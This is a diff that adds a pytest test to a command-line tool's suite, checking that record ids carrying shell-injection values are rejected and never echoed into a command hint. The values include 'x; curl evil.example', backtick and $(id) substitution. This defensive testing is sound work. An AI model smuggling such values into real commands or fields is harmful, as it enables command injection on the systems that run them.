@@ -212,3 +212,11 @@ def test_no_line_acts_on_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
         assert line.replace("\t", "").replace("\xa0", "").isprintable()
     assert "x\xa0y" in said.out
     assert json.loads(said.out.splitlines()[-1]) == {"style": hostile, "again": "ä\x9b"}
+
+
+@pytest.mark.parametrize("record_id", ["x; curl evil.example", "x`id`", "$(id)", "x' y", "-x y"])
+def test_what_is_no_record_id_stands_in_no_command_of_a_hint(shell: Shell, record_id: str) -> None:
+    said = shell("get", "--", record_id)
+    assert said.code == 1
+    assert "no generation has the record id" in said.err
+    assert "arta-mcp get" not in said.err
